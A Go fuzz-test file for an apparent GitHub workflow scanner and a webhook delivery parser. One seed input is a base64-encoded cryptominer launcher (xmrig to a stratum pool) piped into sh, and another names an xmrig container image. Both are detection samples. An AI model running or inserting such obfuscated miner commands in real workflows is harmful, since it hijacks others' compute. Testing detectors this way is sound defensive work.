package github

import (
	"bytes"
	"testing"
)

// FuzzScanWorkflow checks that any input scans without panicking and that matches are
// ordered, unique per line and kind, and point at lines of the input. The seed corpus under
// testdata/fuzz/FuzzScanWorkflow holds the workflow fixtures and base64 launchers.
func FuzzScanWorkflow(f *testing.F) {
	f.Add([]byte("run: echo eG1yaWcgLW8gc3RyYXR1bSt0Y3A6Ly9wb29sOjMzMzM= | base64 -d | sh\n"))
	f.Add([]byte("image: metal3d/xmrig\n# thread pool\n"))
	f.Fuzz(func(t *testing.T, src []byte) {
		ms := ScanWorkflow(src)
		nlines := bytes.Count(src, []byte{'\n'}) + 1
		for i, m := range ms {
			if m.Line < 1 || m.Line > nlines {
				t.Fatalf("match %v outside lines 1..%d", m, nlines)
			}
			if m.Kind == "" || m.Text == "" {
				t.Fatalf("empty match %#v", m)
			}
			if i > 0 {
				p := ms[i-1]
				if p.Line > m.Line || p.Line == m.Line && p.Kind >= m.Kind {
					t.Fatalf("matches out of order or repeated: %v then %v", p, m)
				}
			}
		}
		if (Kinds(ms) == "") != (len(ms) == 0) {
			t.Fatalf("Kinds(%v) = %q", ms, Kinds(ms))
		}
	})
}

// FuzzParseDelivery checks that any input either parses into a delivery with a type or
// fails with ErrBadDelivery, without panicking.
func FuzzParseDelivery(f *testing.F) {
	f.Add([]byte(`{"action":"requested","workflow_run":{"id":1,"head_sha":"abc","path":".github/workflows/a.yml"}}`), "")
	f.Add([]byte(`{"event":"push","request":{"headers":{"X-GitHub-Event":"push"},"payload":{"ref":"refs/heads/x","after":"0"}}}`), "push")
	f.Fuzz(func(t *testing.T, data []byte, hint string) {
		d, err := parseDelivery(data, hint, "fuzz")
		if err == nil && d.typ == "" {
			t.Fatal("delivery without a type")
		}
	})
}
